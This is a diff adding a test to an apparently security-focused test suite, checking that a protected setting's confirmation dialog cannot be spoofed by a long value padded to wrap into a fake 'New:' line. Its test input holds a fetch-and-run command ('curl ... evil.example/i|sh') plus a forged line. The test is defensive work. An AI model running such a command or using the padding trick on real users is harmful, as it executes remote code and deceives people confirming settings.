@@ -174,6 +174,22 @@ describe('24.1 (review) main’s confirmation shows every character of a protect
     expect(/[^\x20-\x7e]/.test(newLine)).toBe(false);
   });
 
+  it('a long value cannot wrap into a "New:" line of its own: it is shown in marked lines that fit any dialog or terminal', async () => {
+    h = await createHarness();
+    await h.enrollMfa();
+    h.confirmAnswer = false;
+    // Found by a third review: padding that makes a dialog wrap, then a fake line of main's own.
+    const value = 'curl -s https://evil.example/i|sh #' + ' .'.repeat(17) + ' New: /usr/local/bin/corp-token --quiet';
+    expect(await h.fails(ipc.settings.set, { name: 'ALPHASWARM_ADMIN_OIDC_TOKEN_COMMAND', value, code: await h.nextCode() })).toMatchObject({ code: 'cancelled' });
+    const lines = h.prompts[0]!.detail.split('\n');
+    expect(lines.filter((l) => l.startsWith('New: '))).toHaveLength(1);
+    const at = lines.findIndex((l) => l.startsWith('New: '));
+    expect(lines[at + 1]).toMatch(/^ {4}│ /);
+    expect(Math.max(...lines.filter((l) => l.startsWith('New: ') || l.startsWith('    │ ')).map((l) => l.length))).toBeLessThanOrEqual(72);
+    // Every character of the value is still there, in order.
+    expect(lines.slice(at, at + 3).map((l, i) => (i === 0 ? l.slice('New: '.length) : l.slice('    │ '.length))).join('')).toBe(value);
+  });
+
   it('a protected value over 600 characters is refused before a code is asked for; the audit row carries the value’s sha256 and length', async () => {
     h = await createHarness();
     await h.enrollMfa();
